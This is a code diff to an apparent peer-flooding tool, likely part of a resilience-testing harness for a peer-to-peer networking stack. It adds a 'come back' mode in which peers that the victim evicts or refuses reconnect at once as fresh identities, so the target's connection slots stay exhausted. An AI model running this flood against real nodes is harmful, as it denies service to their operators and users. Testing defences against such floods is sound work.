@@ -17,6 +17,8 @@ from transports.tcp import tcp
 
 SETUP_CONCURRENCY: Final = 16
 """Handshakes an attacker runs at once while building its position."""
+COME_BACK_DELAY: Final = 0.05
+"""Pause before a refused or evicted peer returns as a new identity."""
 
 PEER_ERRORS: Final = (
     StackError,
@@ -36,6 +38,7 @@ class PeerFlood:
 
     connected: int = 0
     occupied: int = 0
+    evicted: int = 0
     failed: int = 0
     errors: dict[str, int] = field(default_factory=dict)
 
@@ -51,10 +54,13 @@ async def flood_with_peers(
     occupy: Occupy,
     stats: PeerFlood,
     established: trio.Event,
+    *,
+    come_back: bool = False,
 ) -> None:
     """``count`` fresh identities connect to ``target`` (at most SETUP_CONCURRENCY
-    handshakes at once), run ``occupy`` and hold their connection until cancelled.
-    Sets ``established`` once every peer has tried."""
+    handshakes at once), run ``occupy`` and hold their connection until cancelled; with
+    ``come_back``, a peer whose connection the victim closes (or refuses) returns at once as
+    another fresh identity. Sets ``established`` once every peer has tried once."""
     limiter = trio.CapacityLimiter(SETUP_CONCURRENCY)
     remaining = [count]
 
@@ -63,24 +69,36 @@ async def flood_with_peers(
         if remaining[0] == 0:
             established.set()
 
-    async def peer() -> None:
-        done = False
-        try:
-            async with open_node(protocols=[], transports=[tcp()]) as node:
-                async with limiter:
-                    conn = await node.dial(target)
-                    stats.connected += 1
-                    await occupy(conn)
-                    stats.occupied += 1
-                done = True
+    async def visit(first: list[bool]) -> None:
+        """One fresh identity: connect, occupy, hold until the victim hangs up."""
+        async with open_node(protocols=[], transports=[tcp()]) as node:
+            async with limiter:
+                conn = await node.dial(target)
+                stats.connected += 1
+                await occupy(conn)
+                stats.occupied += 1
+            if first:
+                first.clear()
                 tried()
+            if not come_back:
                 await trio.sleep_forever()
-        except* PEER_ERRORS as group:
-            for exc in group.exceptions:
-                stats.failure(exc)
-        finally:
-            if not done:
+            await conn.wait_closed()
+            stats.evicted += 1
+
+    async def peer() -> None:
+        first = [True]
+        while True:
+            try:
+                await visit(first)
+            except* PEER_ERRORS as group:
+                for exc in group.exceptions:
+                    stats.failure(exc)
+            if first:
+                first.clear()
                 tried()
+            if not come_back:
+                return
+            await trio.sleep(COME_BACK_DELAY)
 
     async with trio.open_nursery() as nursery:
         for _ in range(count):
